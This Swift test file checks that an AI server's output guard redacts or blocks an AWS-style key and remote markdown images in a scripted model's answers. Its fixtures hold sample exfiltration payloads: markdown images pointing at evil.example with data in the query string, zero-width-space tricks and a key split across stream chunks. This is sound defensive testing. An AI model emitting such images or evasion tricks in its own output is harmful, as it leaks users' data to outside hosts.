import AnimaCore
import AnimaKernel
import AnimaProcessor
import AnimaSecurity
import Foundation
import Hummingbird
import HummingbirdTesting
import Synchronization
import Testing

@testable import AnimaServer

/// A scripted model that streams its answer in exactly the given chunks, so a secret can
/// be split across them.
struct ChunkedModel: LanguageModel {
    let chunks: [String]
    var info: ModelInfo { ModelInfo(name: "scripted", contextLength: 4096) }

    func generate(_ request: GenerationRequest) -> AsyncThrowingStream<GenerationEvent, any Error> {
        AsyncThrowingStream { continuation in
            for chunk in chunks { continuation.yield(.text(chunk)) }
            continuation.yield(.usage(Usage(promptTokens: 1, completionTokens: chunks.count)))
            continuation.yield(.finished(.stop))
            continuation.finish()
        }
    }

    func countTokens(_ request: GenerationRequest) async throws -> Int { 1 }
    func countTokens(text: String) async throws -> Int { 1 }
}

@Suite("Streamed text passes the output guard before it leaves")
struct StreamGuardRouteTests {
    static let secretChunks = ["Sure. The deploy key is AKIAIOSF", "ODNN7EX", "AMPLE; rotate it ", "monthly."]

    func daemon(_ chunks: [String], policy: String? = nil) throws -> (Daemon, String) {
        let directory = NSTemporaryDirectory() + "anima-stream-guard-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        if let policy { try policy.write(toFile: directory + "/policy.json", atomically: true, encoding: .utf8) }
        var configuration = ServerConfiguration(dataDirectory: directory)
        configuration.port = 0
        let daemon = try Daemon(configuration: configuration, processor: ChunkedModel(chunks: chunks), engine: nil, embedder: nil)
        return (daemon, directory)
    }

    func streamedEvents(_ daemon: Daemon) async throws -> [String] {
        let token = try await daemon.tokens.create(name: "t", user: "alice", groups: ["users"], scopes: Scope.allCases).secret
        let body = ByteBuffer(string: #"{"model":"scripted","stream":true,"messages":[{"role":"user","content":"the key?"}]}"#)
        let events = Mutex<[String]>([])
        try await Application(router: daemon.router()).test(.router) { client in
            try await client.execute(uri: "/v1/chat/completions", method: .post, headers: headers(token), body: body) { response in
                #expect(response.status == .ok)
                events.withLock { $0 = String(buffer: response.body).components(separatedBy: "\n\n").filter { !$0.isEmpty } }
            }
        }
        return events.withLock { $0 }
    }

    @Test func aSecretSplitAcrossChunksReachesTheClientRedacted() async throws {
        let (daemon, directory) = try daemon(Self.secretChunks)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let events = try await streamedEvents(daemon)
        let raw = events.joined()
        #expect(!raw.contains("AKIAIOSF") && !raw.contains("ODNN7EX"))
        let text = events.dropLast().compactMap { try? JSONValue(parsing: String($0.dropFirst("data: ".count))) }
            .compactMap { $0["choices"]?.arrayValue?.first?["delta"]?["content"]?.stringValue }.joined()
        #expect(text == "Sure. The deploy key is [REDACTED AWS access key]; rotate it monthly.")
        #expect(events.last == "data: [DONE]")
    }

    @Test func aBlockVerdictEndsTheStreamWithAnErrorEvent() async throws {
        let (daemon, directory) = try daemon(Self.secretChunks, policy: #"{"guards": {"output": {"secret": "block"}}}"#)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let events = try await streamedEvents(daemon)
        #expect(!events.joined().contains("AKIA"))  // nothing from where the key could begin
        let text = events.compactMap { try? JSONValue(parsing: String($0.dropFirst("data: ".count))) }
            .compactMap { $0["choices"]?.arrayValue?.first?["delta"]?["content"]?.stringValue }.joined()
        #expect(text == "Sure. The deploy key is ", "the words before it leave as they come")
        let error = events.dropLast().last.flatMap { try? JSONValue(parsing: String($0.dropFirst("data: ".count))) }
        #expect(error?["error"]?["message"]?.stringValue?.contains("output guard") == true, "\(events)")
        #expect(events.last == "data: [DONE]")
        #expect(daemon.audit.records.contains { $0.syscall == "guard.stream" })
    }

    /// Without streaming only the whole-text guard runs: it must see through invisible
    /// characters and catch reference-style and protocol-relative images too.
    @Test func aWholeAnswerCannotSmuggleAKeyOrAnImagePastTheGuard() async throws {
        let chunks = [
            "Key AKIA\u{200B}IOSFODNN7EXAMPLE. ", "![a](ht\u{200B}tps://evil.example/a.png?d=1) ", "![b][r] ![c](//evil.example/c.png)\n\n",
            "[r]: https://evil.example/b.png?d=2\n",
        ]
        let (daemon, directory) = try daemon(chunks)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let token = try await daemon.tokens.create(name: "t", user: "alice", groups: ["users"], scopes: Scope.allCases).secret
        let body = ByteBuffer(string: #"{"model":"scripted","messages":[{"role":"user","content":"the key?"}]}"#)
        let content = Mutex<String?>(nil)
        try await Application(router: daemon.router()).test(.router) { client in
            try await client.execute(uri: "/v1/chat/completions", method: .post, headers: headers(token), body: body) { response in
                #expect(response.status == .ok)
                let answer = try? JSONValue(parsing: String(buffer: response.body))
                content.withLock { $0 = answer?["choices"]?.arrayValue?.first?["message"]?["content"]?.stringValue }
            }
        }
        let text = try #require(content.withLock { $0 })
        #expect(!text.contains("AKIAIOSFODNN7EXAMPLE") && !text.contains("evil.example"), "\(text)")
        #expect(text.hasPrefix("Key [REDACTED AWS access key]. [REDACTED markdown image with a remote URL]"), "\(text)")
    }

    @Test func kernelEventsCarryOnlyReleasedText() async throws {
        let (daemon, directory) = try daemon(Self.secretChunks)
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let events = await daemon.kernel.events()
        let collector = Task {
            var text = ""
            for await event in events {
                if case .text(_, let t) = event { text += t }
                if case .exited = event { break }
            }
            return text
        }
        let pid = try await daemon.kernel.spawn(AgentSpec(task: "the key?"), owner: Principal(name: "alice", groups: ["users"]))
        let status = try await daemon.kernel.wait(pid)
        let text = await collector.value
        #expect(!text.contains("AKIAIOSF") && !text.contains("ODNN7EX"))
        #expect(text.contains("[REDACTED AWS access key]"))
        #expect(status == .completed("Sure. The deploy key is [REDACTED AWS access key]; rotate it monthly."))
    }
}
